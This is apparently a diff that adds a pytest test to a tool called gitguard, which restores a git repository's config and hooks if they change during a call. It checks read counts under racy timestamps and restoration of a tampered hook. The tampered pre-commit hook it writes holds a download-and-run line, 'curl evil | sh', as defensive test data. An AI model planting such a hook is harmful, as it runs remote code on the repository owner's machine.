@@ -426,3 +426,39 @@ def test_a_config_changed_within_the_tick_of_the_look_before_is_put_back(tmp_pat
     notes = gitguard.after(taken, [str(work)])
     assert notes and notes[0].startswith(".git/config: core.fsmonitor")
     assert config.read_bytes() == text
+
+
+def test_a_look_after_that_reads_a_too_recent_stamp_puts_nothing_back_when_nothing_differs(
+    tmp_path: Path, monkeypatch
+) -> None:
+    """A stamp too recent to trust (paths.RACY_NS) makes the look after a call read what the files hold; when
+    each holds what it held before the call, that is all it does (nothing compared further, nothing read
+    twice), and a change made in the same tick is still put back."""
+    monkeypatch.setattr(paths, "RACY_NS", 10**18)  # every stamp too recent
+    work = tmp_path / "work"
+    work.mkdir()
+    git("init", "-q", cwd=work)
+    hook = work / ".git" / "hooks" / "pre-commit"
+    hook.write_text("#!/bin/sh\nexit 0\n")
+    gitguard.forget()
+    reads: list[int] = []
+    real_read = gitguard._read
+
+    def counted(paths_: list) -> dict:
+        reads.append(len(paths_))
+        return real_read(paths_)
+
+    monkeypatch.setattr(gitguard, "_read", counted)
+    real_guarded = gitguard._guarded_gitdirs
+    monkeypatch.setattr(gitguard, "_guarded_gitdirs", lambda folders: pytest.fail("nothing to compare"))
+    for _ in range(3):
+        taken = gitguard.before([str(work)])
+        reads.clear()
+        assert gitguard.after(taken, [str(work)]) == []
+        assert len(reads) == 1  # read once, found the same
+    monkeypatch.setattr(gitguard, "_guarded_gitdirs", real_guarded)
+    taken = gitguard.before([str(work)])
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    notes = gitguard.after(taken, [str(work)])
+    assert notes and notes[0].startswith(".git/hooks/pre-commit: a hook changed")
+    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
